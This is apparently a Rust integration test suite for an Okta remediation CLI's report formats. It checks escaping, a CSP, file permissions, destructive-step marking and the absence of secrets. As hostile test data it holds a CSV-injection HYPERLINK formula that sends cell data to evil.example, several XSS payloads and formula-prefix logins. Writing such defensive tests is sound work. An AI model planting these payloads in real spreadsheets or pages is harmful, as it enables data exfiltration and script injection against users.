//! Reports to share (`remedy show/status PLAN --format markdown|html|csv`) through the binary: the
//! seed plan in each format, the same plan's results from a journal, and subjects whose logins and
//! messages hold markup or spreadsheet formulas, which every format must render inert.

use std::path::Path;

use okta_remedy::apply::journal::{Journal, StepState};
use okta_remedy::plan::Plan;
use serde_json::Value;

use super::cli::{crate_root, remedy_in, Run, NOW};

const SEED: &str = "rules/org2org-password-sync.yaml";
const EXAMPLES: &str = "examples/subjects/org2org-failures.jsonl";
const FORMATS: [&str; 3] = ["markdown", "html", "csv"];

/// A temp dir with the seed rulebook and `subjects.jsonl`, and the plan of them as `plan.json`: run
/// there with relative paths, so the plan (and its id) holds no temp path.
fn planned(subjects: &str) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::copy(crate_root().join(SEED), dir.path().join("rulebook.yaml")).unwrap();
    std::fs::write(dir.path().join("subjects.jsonl"), subjects).unwrap();
    let run = remedy_in(
        dir.path(),
        &[
            "plan",
            "--rules",
            "rulebook.yaml",
            "--subjects",
            "subjects.jsonl",
            "--now",
            NOW,
            "--out",
            "plan.json",
        ],
    );
    assert_eq!(run.code, 0, "{}", run.transcript());
    dir
}

fn examples() -> String {
    std::fs::read_to_string(crate_root().join(EXAMPLES)).unwrap()
}

fn ok(dir: &Path, args: &[&str]) -> Run {
    let run = remedy_in(dir, args);
    assert_eq!(run.code, 0, "{}", run.transcript());
    assert!(run.stderr.is_empty(), "{}", run.stderr);
    run
}

#[test]
fn show_in_every_format() {
    let dir = planned(&examples());
    let text = ok(dir.path(), &["show", "plan.json"]);
    let explicit = ok(dir.path(), &["show", "plan.json", "--format", "text"]);
    assert_eq!(text.stdout, explicit.stdout, "--format text is the default");
    for format in FORMATS {
        let run = ok(dir.path(), &["show", "plan.json", "--format", format]);
        insta::assert_snapshot!(format!("show_{format}"), run.transcript());
    }
}

#[test]
fn html_is_one_self_contained_page() {
    let dir = planned(&examples());
    let html = ok(dir.path(), &["show", "plan.json", "--format", "html"]).stdout;
    assert!(html.starts_with("<!doctype html>\n<html lang=\"en\">"));
    for outside in ["<script", "<link", "src=", "http://", "https://", "@import"] {
        assert!(!html.contains(outside), "`{outside}` in the page");
    }
    assert!(
        html.contains("default-src 'none'"),
        "a CSP forbids fetching"
    );
    assert_eq!(
        html.matches("<details>").count(),
        13,
        "one folded explanation per planned subject"
    );
}

/// The seed examples with logins and a hub login a person could not have meant as text.
fn hostile_subjects() -> String {
    let logins: [(usize, &str, Option<&str>); 4] = [
        // The password-policy look-alike: its report message quotes the spoke login.
        (
            3,
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")<script>alert(1)</script>",
            None,
        ),
        // A DEPROVISIONED hub user: its report message quotes the hub login.
        (8, "@SUM(1+1)", Some("<img src=x onerror=alert(1)>|*x*`")),
        (0, "+1-2@example.com", None),
        (7, "-2+3@example.com", None),
    ];
    let mut lines: Vec<Value> = examples()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    for (i, spoke, hub) in logins {
        lines[i]["spoke_user"]["profile"]["login"] = spoke.into();
        lines[i]["assignment"]["credentials"]["userName"] = spoke.into();
        if let Some(hub) = hub {
            lines[i]["user"]["profile"]["login"] = hub.into();
        }
    }
    lines.iter().map(|l| format!("{l}\n")).collect()
}

/// Outside code blocks (where text is literal), every `<` of a Markdown report is escaped.
fn assert_no_raw_markup(markdown: &str) {
    let mut fence: Option<&str> = None;
    for line in markdown.lines() {
        let ticks = &line[..line.len() - line.trim_start_matches('`').len()];
        match fence {
            Some(open) if line == open => fence = None,
            Some(_) => {}
            None if ticks.len() >= 3 => fence = Some(ticks),
            None => {
                for (at, _) in line.match_indices('<') {
                    assert!(line[..at].ends_with('\\'), "raw `<` in: {line}");
                }
            }
        }
    }
    assert!(fence.is_none(), "a code block is left open");
}

#[test]
fn markup_and_formulas_are_inert() {
    let dir = planned(&hostile_subjects());

    let html = ok(dir.path(), &["show", "plan.json", "--format", "html"]).stdout;
    assert!(!html.contains("<script"), "{html}");
    assert!(!html.contains("<img"), "{html}");
    assert!(html.contains("&lt;script&gt;alert(1)&lt;&#x2f;script&gt;"));
    assert!(html.contains("&lt;img src=x onerror=alert(1)&gt;"));

    let markdown = ok(dir.path(), &["show", "plan.json", "--format", "markdown"]).stdout;
    assert_no_raw_markup(&markdown);
    assert!(markdown.contains("\\<script\\>alert(1)\\</script\\>"));
    assert!(markdown.contains("\\<img src=x onerror=alert(1)\\>\\|\\*x\\*\\`"));

    let csv = ok(dir.path(), &["show", "plan.json", "--format", "csv"]).stdout;
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 19, "one row per step");
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "`{cell}` would be a formula"
            );
        }
    }
    let subjects: Vec<&str> = rows.iter().map(|r| &r[1]).collect();
    for key in [
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")<script>alert(1)</script>",
        "'@SUM(1+1)",
        "'+1-2@example.com",
        "'-2+3@example.com",
    ] {
        assert!(subjects.contains(&key), "{key} not in {subjects:?}");
    }

    for format in FORMATS {
        let run = ok(dir.path(), &["show", "plan.json", "--format", format]);
        insta::assert_snapshot!(format!("hostile_{format}"), run.transcript());
    }
}

/// A journal for the plan in `dir` as a first run leaves it: resets done, awaits waiting, a retry
/// failed, a report done, the rest never touched.
fn journal_of_a_first_run(dir: &Path) {
    let plan = Plan::read(&dir.join("plan.json")).unwrap();
    let journal = Journal::open(
        &dir.join("plan.journal.sqlite"),
        &plan.plan_id,
        &plan.checksum,
        &plan.rulebook.sha256,
    )
    .unwrap();
    let by_id = |id: &str| plan.steps.iter().find(|s| s.id == id).unwrap();
    let outcomes: [(&str, StepState, Option<&str>); 5] = [
        (
            "s0001",
            StepState::Done,
            Some("password reset; e-mail sent"),
        ),
        (
            "s0002",
            StepState::Waiting,
            Some("waiting until $.user.status equals \"ACTIVE\" (now \"RECOVERY\")"),
        ),
        ("s0010", StepState::Done, None),
        (
            "s0016",
            StepState::Failed,
            Some("okta refused the push: <b>E0000001</b>"),
        ),
        ("s0012", StepState::Intent, None),
    ];
    for (id, state, detail) in outcomes {
        let step = by_id(id);
        journal
            .finish(id, &step.subject, step.action.name(), state, detail, None)
            .unwrap();
    }
    journal
        .set_subject(
            "ana.lima@example.com",
            "waiting",
            Some("until the user sets a password"),
        )
        .unwrap();
    journal
        .set_subject("hana.sato@example.com", "failed", Some("=1+1"))
        .unwrap();
    journal
        .set_subject("dee.park@example.com", "done", None)
        .unwrap();
}

#[test]
fn status_in_every_format() {
    let dir = planned(&examples());
    journal_of_a_first_run(dir.path());
    for format in FORMATS {
        let run = ok(dir.path(), &["status", "plan.json", "--format", format]);
        insta::assert_snapshot!(format!("status_{format}"), run.transcript());
    }
    let csv = ok(dir.path(), &["status", "plan.json", "--format", "csv"]).stdout;
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let states: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[6].to_string())
        .collect();
    assert_eq!(states.len(), 19);
    assert_eq!(states.iter().filter(|s| *s == "pending").count(), 14);
    // The text status is unchanged by reports.
    let text = ok(dir.path(), &["status", "plan.json"]);
    assert!(text.stdout.starts_with("journal plan.journal.sqlite"));
}

#[test]
fn report_refusals() {
    let dir = planned(&examples());
    journal_of_a_first_run(dir.path());
    let journal_only = remedy_in(
        dir.path(),
        &["status", "plan.journal.sqlite", "--format", "html"],
    );
    let with_json = remedy_in(
        dir.path(),
        &["--output", "json", "show", "plan.json", "--format", "csv"],
    );
    let no_journal = {
        let other = planned(&examples());
        remedy_in(
            other.path(),
            &["status", "plan.json", "--format", "markdown"],
        )
    };
    let out_without_format = remedy_in(dir.path(), &["show", "plan.json", "--out", "plan.md"]);
    let transcripts = [
        ("status JOURNAL --format html", journal_only),
        ("show PLAN --out plan.md", out_without_format),
        ("--output json show PLAN --format csv", with_json),
        ("status PLAN (never applied) --format markdown", no_journal),
    ]
    .map(|(what, run)| {
        assert_eq!(run.code, 1, "{what}: {}", run.transcript());
        format!("$ remedy {what}\n{}", run.transcript())
    });
    insta::assert_snapshot!("refusals", transcripts.join("\n"));
}

#[test]
fn destructive_steps_are_marked() {
    let dir = tempfile::tempdir().unwrap();
    let case = crate_root().join("tests/cases/delete-recreate");
    for f in ["rulebook.yaml", "subjects.jsonl"] {
        std::fs::copy(case.join(f), dir.path().join(f)).unwrap();
    }
    ok(
        dir.path(),
        &[
            "plan",
            "--rules",
            "rulebook.yaml",
            "--subjects",
            "subjects.jsonl",
            "--now",
            NOW,
            "--out",
            "plan.json",
        ],
    );
    let html = ok(dir.path(), &["show", "plan.json", "--format", "html"]).stdout;
    assert!(html.contains(
        "delete_recreate (1) <span class=\"badge destructive\">destructive: needs --approve-destructive</span>"
    ));
    assert!(html.contains("<tr class=\"destructive-step\">"));
    let markdown = ok(dir.path(), &["show", "plan.json", "--format", "markdown"]);
    insta::assert_snapshot!("destructive_markdown", markdown.transcript());
}

#[test]
fn out_writes_a_private_file() {
    let dir = planned(&examples());
    journal_of_a_first_run(dir.path());
    for (command, file) in [("show", "plan.html"), ("status", "results.html")] {
        let printed = ok(dir.path(), &[command, "plan.json", "--format", "html"]).stdout;
        let run = ok(
            dir.path(),
            &[command, "plan.json", "--format", "html", "--out", file],
        );
        assert_eq!(run.stdout, format!("wrote the report to {file}\n"));
        let path = dir.path().join(file);
        assert_eq!(std::fs::read_to_string(&path).unwrap(), printed);
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            let mode = std::fs::metadata(&path).unwrap().permissions().mode();
            assert_eq!(mode & 0o777, 0o600, "{file}");
        }
    }
}

/// After a real apply that wrote one-time reset URLs (to their 0600 file) and deleted and recreated
/// users, no report of the results holds a URL, a token or a reset link.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn results_hold_no_secret() {
    use super::apply::{seed_spec, Env};
    let env = Env::generated(seed_spec(), "tests/fixtures/apply/guards.yaml").await;
    env.plan().await;
    let run = env
        .apply(&["--approve-destructive", "--reset-urls", "urls.txt"])
        .await;
    assert_eq!(
        run.code,
        3,
        "the group-scoped refusal: {}",
        run.transcript()
    );
    let urls = std::fs::read_to_string(env.path("urls.txt")).unwrap();
    let secrets: Vec<&str> = urls
        .lines()
        .filter_map(|l| l.split('\t').nth(1))
        .chain([env.sim.hub_token(), env.sim.spoke_token()])
        .collect();
    assert!(
        secrets.len() >= 3,
        "a reset URL and two tokens: {secrets:?}"
    );
    for format in FORMATS {
        let report = env
            .remedy(&["status", "plan.json", "--format", format])
            .await;
        assert_eq!(report.code, 0, "{}", report.transcript());
        assert!(report.stdout.contains("done"), "{}", report.stdout);
        for secret in &secrets {
            assert!(!report.stdout.contains(secret), "{format} holds `{secret}`");
        }
        for word in ["resetPasswordUrl", "reset_password_url", "token=", "SSWS"] {
            assert!(!report.stdout.contains(word), "{format} holds `{word}`");
        }
    }
}
